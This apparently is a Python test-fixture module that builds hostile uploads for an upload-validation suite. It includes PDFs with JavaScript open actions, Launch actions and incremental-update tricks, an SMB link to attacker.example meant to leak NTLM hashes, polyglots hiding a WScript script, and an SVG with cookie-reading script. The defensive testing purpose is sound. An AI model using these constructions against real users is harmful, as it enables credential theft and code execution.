"""Crafted uploads that must be refused: PDFs with active content where a regex cannot see it, polyglots.

Each is built here, at test time, from the clean samples (pikepdf writes the PDFs), so the suite
carries no opaque binary files. ``HOSTILE_UPLOADS`` names them for parametrised tests.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import pikepdf

from .samples import sample_jpeg, sample_pdf, sample_png

__all__ = [
    "HOSTILE_UPLOADS",
    "encrypted_pdf",
    "incremental_update_adding_an_action",
    "jpeg_with_a_zip_appended",
    "pdf_with_gotor_to_a_unc_path",
    "pdf_with_javascript_open_action_in_an_object_stream",
    "pdf_with_launch_action",
    "pdf_zip_polyglot",
    "png_with_data_after_its_end",
    "svg_image",
]


def _scan() -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(sample_pdf()))


def _save(pdf: pikepdf.Pdf, *, object_streams: bool = True, **options: object) -> bytes:
    buffer = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(buffer, object_stream_mode=mode, compress_streams=True, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    annotation = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 595, 842], Border=[0, 0, 0], A=action
        )
    )
    pdf.pages[0].Annots = pikepdf.Array([annotation])


def pdf_with_javascript_open_action_in_an_object_stream() -> bytes:
    """The catalog runs JavaScript on opening; catalog and action sit compressed in an object stream."""
    pdf = _scan()
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://evil.example/');"))
    )
    return _save(pdf)


def pdf_with_gotor_to_a_unc_path() -> bytes:
    """A full-page link that opens a document on a remote SMB share (leaks the reader's NTLM hash)."""
    pdf = _scan()
    _link(
        pdf,
        pikepdf.Dictionary(
            S=pikepdf.Name.GoToR, F=pikepdf.String(r"\\attacker.example\share\form.pdf"), D=[0, pikepdf.Name.Fit]
        ),
    )
    return _save(pdf)


def pdf_with_launch_action() -> bytes:
    """A full-page link that starts a program."""
    pdf = _scan()
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), NewWindow=True))
    return _save(pdf)


def incremental_update_adding_an_action() -> bytes:
    """A clean scan, then an appended revision (new catalog, xref section, trailer with /Prev) that opens a URL."""
    pdf = _scan()
    base = _save(pdf, object_streams=False)
    reopened = pikepdf.open(io.BytesIO(base))
    catalog_number = reopened.Root.objgen[0]
    pages_number = reopened.Root.Pages.objgen[0]
    size = int(reopened.trailer.Size)
    previous = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    body = (
        f"{catalog_number} 0 obj\n<< /Type /Catalog /Pages {pages_number} 0 R "
        f"/OpenAction << /S /URI /URI (https://evil.example/collect) >> >>\nendobj\n"
    ).encode()
    object_offset = len(base)
    xref_offset = object_offset + len(body)
    update = (
        body
        + f"xref\n{catalog_number} 1\n{object_offset:010d} 00000 n\r\n".encode()
        + f"trailer\n<< /Size {size} /Root {catalog_number} 0 R /Prev {previous} >>\n".encode()
        + f"startxref\n{xref_offset}\n%%EOF\n".encode()
    )
    return base + update


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("invoice.js", "WScript.Shell.Run('calc.exe');")
    return buffer.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A valid PDF that is also a valid ZIP archive (the archive appended after %%EOF)."""
    return sample_pdf() + _zip()


def jpeg_with_a_zip_appended() -> bytes:
    return sample_jpeg() + _zip()


def png_with_data_after_its_end() -> bytes:
    return sample_png() + b"<script>alert(1)</script>"


def encrypted_pdf() -> bytes:
    pdf = _scan()
    return _save(pdf, encryption=pikepdf.Encryption(owner="owner-secret", user="", R=6))


def svg_image() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script></svg>"
    )


#: name -> builder, every one of which an upload must refuse.
HOSTILE_UPLOADS: dict[str, Callable[[], bytes]] = {
    "javascript-open-action-in-object-stream": pdf_with_javascript_open_action_in_an_object_stream,
    "gotor-to-unc-path": pdf_with_gotor_to_a_unc_path,
    "launch-action": pdf_with_launch_action,
    "incremental-update-adding-an-action": incremental_update_adding_an_action,
    "pdf-zip-polyglot": pdf_zip_polyglot,
    "jpeg-zip-polyglot": jpeg_with_a_zip_appended,
    "png-data-after-end": png_with_data_after_its_end,
    "encrypted-pdf": encrypted_pdf,
    "svg": svg_image,
}
